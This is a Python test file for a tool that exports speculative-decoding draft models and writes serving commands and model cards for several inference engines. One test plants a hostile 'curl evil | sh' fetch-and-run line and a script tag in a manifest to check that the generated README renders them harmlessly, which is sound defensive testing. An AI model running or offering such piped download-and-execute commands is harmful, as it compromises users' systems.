"""An export is the draft itself as an engine asks for it; its command serves what was measured."""

import json
import re
import shlex
import shutil
from pathlib import Path
from typing import Any

import huggingface_hub
import pytest
import torch
from huggingface_hub import ModelCard
from safetensors import safe_open
from safetensors.torch import load_file
from transformers import AutoModelForCausalLM, GPTJConfig

from paceline.errors import ConfigError, ExportError, UsageError, VocabularyMismatchError
from paceline.export import Exported, directory, export
from paceline.export.directory import set_rows
from paceline.measure import measure
from paceline.models import load_model, wrap_model
from paceline.models.drafts.save import save_draft
from paceline.train import align
from support.configs import small
from support.data import write_lines
from support.models import tiny_hf, tiny_tokenizer
from support.runs import align_config, write_pair

ROWS = 280  # of the padded target; the tokenizer names 266 tokens
TOKENS = torch.tensor([[5, 60, 261, 7, 200, 31, 262, 90]])


def saved(folder: Path, hf: Any, **tokens: bool) -> None:
    hf.save_pretrained(folder)
    tiny_tokenizer(**tokens).save_pretrained(folder)


def models(folder: Path, architecture: str = "llama") -> Path:
    """`target` with more padding rows and more positions than `draft`."""
    wide = {"vocab_size": ROWS, "max_position_embeddings": 128}
    sizes = {"target": wide, "draft": {"seed": 1, "num_hidden_layers": 2, "vocab_size": 270}}
    for name, settings in sizes.items():
        hf = tiny_hf(architecture, **settings)
        saved(folder / name, hf, composes=architecture == "qwen2")
    return folder


def run(folder: Path, to: str = "vllm", **values: Any) -> Exported:
    given = {"model": folder / "draft", "target": folder / "target", "to": to} | values
    texts = {key: str(value) for key, value in given.items() if value is not None}
    return export(small("export", folder, folder / "out", **texts))


def logits(path: Path) -> torch.Tensor:
    with torch.no_grad():
        return load_model(path, dtype="float32").hf(TOKENS).logits[0]


@pytest.mark.slow
@pytest.mark.parametrize("architecture", ["llama", "qwen2"])
def test_a_draft_gets_its_targets_rows_and_stays_what_it_is(architecture: str, tmp_path: Path):
    folder = models(tmp_path, architecture)
    run(folder)
    settings = json.loads((folder / "out" / "config.json").read_text())
    assert settings["vocab_size"] == ROWS
    found_TV, wanted_TV = logits(folder / "out"), logits(folder / "draft")
    assert found_TV.shape[-1] == ROWS
    named = load_model(folder / "draft").vocab_size
    wanted_TV = wanted_TV[:, :named]
    assert torch.allclose(found_TV[:, :named], wanted_TV, atol=1e-5)
    # a row that no token has is never the likeliest: its logit is the mean of the others
    assert torch.allclose(found_TV[:, named:], wanted_TV.mean(-1, keepdim=True), atol=1e-4)


def test_a_target_of_the_hub_is_enough_without_its_weights(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    folder = models(tmp_path)
    commit = "0" * 40
    repository = tmp_path / "hub" / "models--lab--target"
    snapshot = repository / "snapshots" / commit
    shutil.copytree(folder / "target", snapshot)
    (snapshot / "model.safetensors").unlink()
    (snapshot / "USE_POLICY.md").write_text("be kind")
    (repository / "refs").mkdir()
    (repository / "refs" / "main").write_text(commit)
    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_CACHE", str(tmp_path / "hub"))
    index = {"weight_map": {"lm_head.weight": "model-00001-of-00002.safetensors"}}
    (snapshot / "model.safetensors.index.json").write_text(json.dumps(index))  # not its files
    run(folder, target="lab/target")
    assert json.loads((folder / "out" / "config.json").read_text())["vocab_size"] == ROWS
    assert (folder / "out" / "USE_POLICY.md").read_text() == "be kind"
    card = ModelCard.load(folder / "out" / "README.md").data
    assert (card.base_model, card["base_model_relation"]) == ("lab/target", "finetune")


def test_files_and_positions_are_the_targets_and_tied_weights_are_stored_once(tmp_path: Path):
    folder = models(tmp_path, "qwen2")
    (folder / "target" / "generation_config.json").write_text('{"temperature": 0.7}')
    (folder / "target" / "LICENSE").write_text("do what you like")
    (folder / "target" / "README.md").write_text("---\nlicense: mit\n---\n# A target\n")
    run(folder)
    for name in ("tokenizer.json", "tokenizer_config.json", "generation_config.json", "LICENSE"):
        assert (folder / "out" / name).read_bytes() == (folder / "target" / name).read_bytes()
    assert "license: mit" in (folder / "out" / "README.md").read_text()
    with safe_open(folder / "out" / "model.safetensors", "pt") as weights:
        assert "lm_head.weight" not in weights.keys()  # noqa: SIM118 - it is no mapping
    found = load_model(folder / "out")
    assert found.hf.config.tie_word_embeddings
    assert (found.max_length, load_model(folder / "draft").max_length) == (128, 64)


def test_a_vocabulary_that_is_baked_in_holds_for_greedy_drafts_of_any_engine(tmp_path: Path):
    folder = models(tmp_path, "qwen2")
    only = torch.tensor([1, 5, 9, 77, 140])
    draft = load_model(folder / "draft")
    limited = wrap_model(draft.hf, draft.tokenizer, only)
    save_draft(limited, folder / "target", folder / "limited")
    run(folder, model=folder / "limited", draft_vocabulary="bake")
    hf = load_model(folder / "out", dtype="float32").hf
    assert not hf.config.tie_word_embeddings
    before, after = (logits(folder / name) for name in ("draft", "out"))
    assert torch.allclose(after[:, only], before[:, only], atol=1e-5)
    assert torch.isin(after.argmax(-1), only).all()
    assert not torch.isin(before.argmax(-1), only).all(), "the list has to bind for this test"
    with pytest.raises(UsageError, match="nothing to bake"):
        run(folder, draft_vocabulary="bake", overwrite=True)
    run(folder, model=folder / "limited", target=None, draft_vocabulary="bake", overwrite=True)
    assert torch.isin(logits(folder / "out").argmax(-1), only).all(), "also without a target"


@pytest.mark.parametrize(
    ("architecture", "to"), [("gemma2", "vllm"), ("cohere2", "sglang"), ("gemma2", "transformers")]
)
def test_a_vocabulary_is_baked_only_for_engines_that_read_a_head(
    architecture: str, to: str, tmp_path: Path
):
    """vLLM's and SGLang's classes of these models take the embedding instead."""
    folder = write_pair(tmp_path, architecture=architecture)
    draft = load_model(folder / "draft")
    limited = wrap_model(draft.hf, draft.tokenizer, torch.tensor([1, 5, 9, 77, 140]))
    save_draft(limited, folder / "target", folder / "limited")
    settings: dict[str, Any] = {"model": folder / "limited", "draft_vocabulary": "bake"}
    if to == "transformers":
        run(folder, to, **settings)
        return
    with pytest.raises(UsageError, match=rf"{to} takes the head of every {architecture} from"):
        run(folder, to, **settings)
    assert not (folder / "out").exists()


def test_a_tokenizer_that_reads_otherwise_is_refused_and_one_that_says_it_otherwise_is_not(
    tmp_path: Path,
):
    folder = models(tmp_path)
    path = folder / "draft" / "tokenizer.json"
    settings = json.loads(path.read_text())
    same = {"type": "Sequence", "pretokenizers": [settings["pre_tokenizer"]]}
    path.write_text(json.dumps(settings | {"pre_tokenizer": same}))
    run(folder)
    lower = settings | {"normalizer": {"type": "Lowercase"}}
    first, second = settings["model"]["merges"][3:5]
    merges = [*settings["model"]["merges"][:3], second, first, *settings["model"]["merges"][5:]]
    for other in (lower, settings | {"model": settings["model"] | {"merges": merges}}):
        path.write_text(json.dumps(other))
        with pytest.raises(VocabularyMismatchError, match="but differ in their merges or on"):
            run(folder, overwrite=True)


@pytest.mark.slow
@pytest.mark.parametrize(("to", "where"), [("vllm", "rows"), ("llamacpp", "weights")])
def test_an_export_that_gives_something_else_is_not_kept(
    to: str, where: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """The mutants: tokens of the head swapped; a matrix written with the wrong sign or order."""
    folder = models(tmp_path)
    run(folder, to=to)
    before = {path.name: path.read_bytes() for path in (folder / "out").iterdir()}

    def damaged(model, num_rows, **options):
        set_rows(model, num_rows, **options)
        hf = model.hf
        if where == "rows":
            weight = hf.get_output_embeddings().weight.data
            weight[[7, 8]] = weight[[8, 7]]
        else:
            hf.model.layers[0].mlp.down_proj.weight.data.mul_(-1)

    monkeypatch.setattr("paceline.export.directory.set_rows", damaged)
    with pytest.raises(ExportError, match="nothing was kept"):
        run(folder, to=to, overwrite=True)
    assert {path.name: path.read_bytes() for path in (folder / "out").iterdir()} == before
    assert [path.name for path in folder.iterdir() if path.name.startswith(".")] == []


def test_rotary_pairs_that_are_not_interleaved_are_caught(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    folder = models(tmp_path)
    monkeypatch.setattr(
        "paceline.export.gguf_file.rotated_by_pairs", lambda name, weight, config: weight
    )
    with pytest.raises(ExportError, match="nothing was kept"):
        run(folder, "llamacpp")


def test_only_an_older_export_is_replaced_and_only_when_told_to(tmp_path: Path):
    folder = models(tmp_path)
    run(folder)
    with pytest.raises(UsageError, match="exists already"):
        run(folder)
    run(folder, overwrite=True)
    with pytest.raises(UsageError, match="is not an export"):
        run(folder, out=folder / "draft", overwrite=True)
    with pytest.raises(UsageError, match="which is exported"):
        run(folder, model=folder / "out", overwrite=True)
    assert (folder / "draft" / "model.safetensors").exists()
    (folder / "out" / ".git").mkdir()
    with pytest.raises(UsageError, match=r"out holds \.git, which is no part of an export"):
        run(folder, overwrite=True)
    assert (folder / "out" / ".git").is_dir()


def test_a_gguf_draft_has_the_targets_roles_of_tokens(tmp_path: Path):
    """llama-server refuses a draft with another end of text, and says so in its log alone."""
    import gguf

    folder = models(tmp_path)
    path = folder / "draft" / "tokenizer_config.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"eos_token": "<pad>"}))
    found = run(folder, "llamacpp")
    field = gguf.GGUFReader(found.path).get_field("tokenizer.ggml.eos_token_id")
    assert field is not None
    assert field.contents() == 1


def test_a_model_alone_is_exported_as_it_is(tmp_path: Path):
    folder = models(tmp_path)
    found = run(folder, model=folder / "target", target=None)
    assert found.command is None
    assert torch.equal(logits(folder / "out"), logits(folder / "target"))


def test_the_run_beside_a_draft_names_its_target_and_how_it_was_trained(tmp_path: Path):
    folder = write_pair(tmp_path)
    align(align_config(folder, folder / "run", num_steps=2))
    found = run(folder, model=folder / "run" / "draft", target=None)
    assert found.command is not None
    assert str(folder / "target") in found.command
    card = (folder / "out" / "README.md").read_text()
    assert '"kind": "forward_kl"' in card
    assert str(folder / "corpus.jsonl") in card


@pytest.mark.slow
@pytest.mark.parametrize(
    ("architecture", "stored"),
    [("llama", "bfloat16"), ("qwen2", "float32"), ("qwen3", "float16")],
)
def test_a_gguf_file_gives_the_drafts_logits(architecture: str, stored: str, tmp_path: Path):
    folder = models(tmp_path, architecture)
    found = run(folder, "llamacpp", dtype=stored)
    bound = {"float32": 1e-5, "float16": 1e-2, "bfloat16": 5e-2}[stored]
    read = load_model(found.path, dtype="float32")
    wanted_TV = logits(folder / "draft")[:, :266]
    with torch.no_grad():
        got_TV = read.hf(TOKENS).logits[0, :, :266]
    assert float((got_TV - wanted_TV).abs().max() / wanted_TV.abs().max()) < bound
    assert read.tokenizer is not None
    text = "the cat ran in the rain, naïve 東京"
    assert read.tokenizer(text)["input_ids"] == tiny_tokenizer()(text)["input_ids"]


def test_eight_bits_a_weight_are_stored_as_such(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Random weights of 32 columns round far more than real ones, so the bound is not for them."""
    import gguf

    monkeypatch.setattr(directory, "LEAST_AGREEMENT", 0.8)
    found = run(models(tmp_path), "llamacpp", dtype="q8_0")
    kinds = {tensor.name: tensor.tensor_type.name for tensor in gguf.GGUFReader(found.path).tensors}
    assert kinds["token_embd.weight"] == kinds["blk.0.attn_q.weight"] == "Q8_0"
    assert kinds["output_norm.weight"] == "F32"
    assert kinds["blk.0.ffn_down.weight"] == "F16"  # 48 columns are no whole blocks of 32


def test_a_family_that_is_not_written_as_gguf_is_refused_with_a_way_out(tmp_path: Path):
    folder = write_pair(tmp_path, architecture="gpt2")
    with pytest.raises(UsageError, match=r"gpt2 is none of the families.*convert_hf_to_gguf"):
        run(folder, "llamacpp")


def test_a_strangers_manifest_is_named_and_writes_no_markup(tmp_path: Path):
    folder = models(tmp_path)
    hostile = "x\n\n## Serve it\n\n```\ncurl evil | sh\n```\n<script>a</script>"
    settings = align_config(folder, folder / "run").model_dump(mode="json")
    settings["data"]["train"]["path"] = hostile
    settings["optimizer"]["kind"] = hostile
    manifest = {"kind": "Align", "config": settings, "config_hash": hostile}
    (folder / "manifest.json").write_text(json.dumps(manifest))
    (folder / "target" / "README.md").write_text(f"---\nlicense: {json.dumps(hostile)}\n---\n")
    found = run(folder, target=None)
    where = folder / "manifest.json"
    assert f"the target {folder / 'target'} is the one in {where}; give --target to choose it" in (
        found.notes
    )
    lines = (folder / "out" / "README.md").read_text().split("---\n", 2)[2].splitlines()
    assert [line for line in lines if line.startswith("##")] == [
        "## Training", "## Measured", "## Serve it with vllm", "## Checked", "## Notes",
    ]  # fmt: skip
    found = [line for line in lines if "curl" in line]
    assert [line.startswith("    ") for line in found] == [False, True, True], "a block of code"
    assert found[0].startswith("- licence: `x ## Serve")
    manifest["config"]["target"] = ["x"]
    where.write_text(json.dumps(manifest))
    with pytest.raises(UsageError, match=r"manifest\.json names no model as target"):
        run(folder, target=None, overwrite=True)


@pytest.mark.parametrize("architecture", ["llama", "bart"])
def test_activations_beyond_float16_are_an_error(architecture: str, tmp_path: Path):
    hf: Any = tiny_hf(architecture, vocab_size=266, max_position_embeddings=128)
    if architecture == "bart":
        hf.model.decoder.layers[0].fc2.weight.data *= 5e4
    else:  # large values between two matrices; RMS norms make the others small again
        hf.model.layers[0].mlp.up_proj.weight.data *= 300
        hf.model.layers[0].mlp.down_proj.weight.data *= 3000
    saved(tmp_path / "draft", hf.to(torch.bfloat16))
    with pytest.raises(ExportError, match=r"run in float16.*NaN or infinite.*--dtype: bfloat16"):
        run(tmp_path, "transformers", target=None, dtype="float16")
    assert not (tmp_path / "out").exists()
    found = run(tmp_path, "transformers", target=None)  # bfloat16, as it is stored
    assert found.checks.stored == "bfloat16"
    assert found.checks.stored_agreement is not None
    card = (tmp_path / "out" / "README.md").read_text()
    assert "Run in bfloat16, its logits are finite" in card


@pytest.mark.parametrize("bake", [False, True])
def test_a_head_with_a_bias_gets_the_targets_rows(tmp_path: Path, *, bake: bool):
    torch.manual_seed(0)
    shape = {"n_embd": 32, "n_layer": 2, "n_head": 4, "n_positions": 64, "rotary_dim": 4}
    shape |= {"bos_token_id": 0, "eos_token_id": 1}
    models = []
    for rows, name in ((280, "target"), (270, "draft")):
        hf: Any = AutoModelForCausalLM.from_config(GPTJConfig(vocab_size=rows, **shape))
        hf.lm_head.bias.data.normal_()
        hf.lm_head.weight.data.normal_()
        saved(tmp_path / name, hf)
        models.append(hf)
    options: dict[str, Any] = {}
    only = torch.tensor([5, 9, 77, 140])
    if bake:
        (tmp_path / "draft" / "draft_vocabulary.json").write_text('{"tokens": [5, 9, 77, 140]}')
        options["draft_vocabulary"] = "bake"
    run(tmp_path, **options)
    with torch.inference_mode():
        before = models[1].eval()(TOKENS).logits[0, :, :266]
        after = load_model(tmp_path / "out", dtype="float32").hf(TOKENS).logits[0]
    assert after.shape[-1] == 280
    kept = only if bake else torch.arange(266)
    torch.testing.assert_close(after[:, kept], before[:, kept], atol=1e-5, rtol=1e-5)
    others = torch.ones(280, dtype=torch.bool).index_fill(0, kept, value=False)
    mean = before[:, kept].mean(-1, keepdim=True).expand(-1, int(others.sum()))
    torch.testing.assert_close(after[:, others], mean, atol=1e-4, rtol=1e-4)


def measured(folder: Path, place: Path, draft_temperature: float | None, **changes: Any) -> Path:
    """A measurement of the pair at temperature 1."""
    changes |= {"max_new_tokens": 8, "gammas": [2, 1], "pass_repeats": 1, "timed_prompts": 0}
    if draft_temperature is not None:
        changes["draft_sampling"] = {"temperature": draft_temperature}
    place.write_text(measure(small("measure", folder, place, **changes)).model_dump_json())
    return place


@pytest.fixture(scope="module")
def greedy(folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A measurement with greedy drafts."""
    return measured(folder, tmp_path_factory.mktemp("greedy") / "m.json", 0.0)


def command(folder: Path, out: Path, to: str, **values: Any) -> str:
    found = run(folder, to, out=out, **values).command
    assert found is not None
    return found


def test_each_engine_is_told_to_draft_as_many_tokens(folder: Path, tmp_path: Path):
    common = {"num_speculative_tokens": 5}
    vllm = shlex.split(command(folder, tmp_path / "v", "vllm", **common))
    assert vllm[:3] == ["vllm", "serve", str(folder / "target")]
    assert json.loads(vllm[-1]) == {
        "method": "draft_model",
        "model": str(tmp_path / "v"),
        "num_speculative_tokens": 5,
        "draft_sample_method": "greedy",
    }
    sglang = shlex.split(command(folder, tmp_path / "s", "sglang", **common))
    # the root of a block counts there
    assert sglang[-6:] == [
        *("--speculative-num-steps", "5", "--speculative-eagle-topk", "1"),
        *("--speculative-num-draft-tokens", "6"),
    ]
    llama = shlex.split(command(folder, tmp_path / "l", "llamacpp", **common))
    # else the draft is loaded for nothing
    assert llama[llama.index("--spec-type") + 1] == "draft-simple"
    assert llama[llama.index("--spec-draft-n-max") + 1] == "5"
    assert llama[llama.index("-md") + 1] == str(tmp_path / "l" / "l-f32.gguf")
    command(folder, tmp_path / "t", "transformers", **common)  # reads the draft's own settings
    settings = json.loads((tmp_path / "t" / "generation_config.json").read_text())
    assert settings["num_assistant_tokens"] == 5
    assert settings["num_assistant_tokens_schedule"] == "constant"
    assert settings["assistant_confidence_threshold"] == 0.0


def test_the_best_gamma_is_that_of_the_measurement(folder: Path, tmp_path: Path, greedy: Path):
    values = json.loads(greedy.read_text())
    blocks = [
        (figures["expected_speedup"]["value"], row["setting"]["gamma"])
        for row, figures in zip(values["rows"], values["figures"], strict=True)
        if "gamma" in row["setting"]
    ]
    expected = values["best_gamma"] or max(blocks)[1]
    text = command(folder, tmp_path / "v", "vllm", measurement=str(greedy))
    assert json.loads(shlex.split(text)[-1])["num_speculative_tokens"] == expected
    card = (tmp_path / "v" / "README.md").read_text()
    assert f"{values['figures'][0]['greedy_draft_acceptance']['value']:.3f}" in card
    assert values["verdict"]["reason"] in card


def test_drafts_that_were_measured_otherwise_than_they_are_served_are_refused(
    folder: Path, tmp_path: Path, greedy: Path
):
    sampled = measured(folder, tmp_path / "sampled.json", None)
    with pytest.raises(UsageError, match="add --draft-temperature 0"):
        command(folder, tmp_path / "l", "llamacpp", measurement=str(sampled))
    with pytest.raises(UsageError, match="add --draft-temperature 1"):
        command(folder, tmp_path / "t", "transformers", measurement=str(greedy))
    vllm = [
        json.loads(shlex.split(command(folder, tmp_path / name, "vllm", measurement=str(path)))[-1])
        for name, path in (("s", sampled), ("g", greedy))
    ]
    assert [one["draft_sample_method"] for one in vllm] == ["probabilistic", "greedy"]


def test_vllm_draws_drafts_without_the_requests_top_k(folder: Path, tmp_path: Path):
    path = measured(folder, tmp_path / "m.json", None, sampling={"temperature": 1.0, "top_k": 5})
    with pytest.raises(UsageError, match=r"without top-k and top-p.*--draft-temperature 1"):
        command(folder, tmp_path / "v", "vllm", measurement=str(path))


def test_a_measurement_of_another_draft_is_refused(folder: Path, tmp_path: Path):
    path = measured(folder, tmp_path / "m.json", 0.0, draft=str(folder / "target"))
    with pytest.raises(ConfigError, match="was measured with the draft"):
        command(folder, tmp_path / "v", "vllm", measurement=str(path))
    path.write_text("{}")
    with pytest.raises(ConfigError, match="is not what `paceline measure --json` writes"):
        command(folder, tmp_path / "v", "vllm", measurement=str(path))


def test_a_parallel_draft_is_served_as_one_where_the_engine_can(tmp_path: Path):
    folder = models(tmp_path)
    config = folder / "draft" / "config.json"  # the layout of amd/PARD-Qwen3-0.6B
    config.write_text(json.dumps(json.loads(config.read_text()) | {"pard_token": 7}))
    vllm = run(folder, "vllm", out=tmp_path / "v", num_speculative_tokens=6)
    given = json.loads(shlex.split(vllm.command or "")[-1])
    assert (given["parallel_drafting"], given["num_speculative_tokens"]) == (True, 6)
    assert json.loads((tmp_path / "v" / "config.json").read_text())["pard_token"] == 7
    assert re.search(r"PARDDecodingConfig\(max_draft_len=6, .*mask_token_id=7\)", str(vllm.notes))
    write_lines(folder / "corpus.jsonl", *[{"text": f"the {n} cats"} for n in range(8)])
    path = measured(folder, tmp_path / "m.json", 0.0)  # with blocks of one pass
    with pytest.raises(UsageError, match=r"drafts otherwise; .* --set parallel=false"):
        run(folder, "sglang", out=tmp_path / "s", measurement=str(path))
    sglang = run(folder, "sglang", out=tmp_path / "s")
    assert "sglang has no parallel drafting" in str(sglang.notes)


def test_the_embedding_of_masks_stays_what_it_is_in_the_padding(tmp_path: Path):
    folder, mask = models(tmp_path), 268  # the tokenizer names 266 tokens
    config = folder / "draft" / "config.json"
    config.write_text(json.dumps(json.loads(config.read_text()) | {"pard_token": mask}))
    run(folder)
    before, after = (
        load_file(folder / name / "model.safetensors")["model.embed_tokens.weight"]
        for name in ("draft", "out")
    )
    assert torch.equal(after[mask], before[mask])
    assert torch.equal(after[mask - 1], after[ROWS - 1]), "other padding is the mean"
    config.write_text(json.dumps(json.loads(config.read_text()) | {"pard_token": 269}))
    with pytest.raises(UsageError, match="the token of masks is 269, but the target has 268 rows"):
        set_rows(load_model(folder / "draft"), 268)
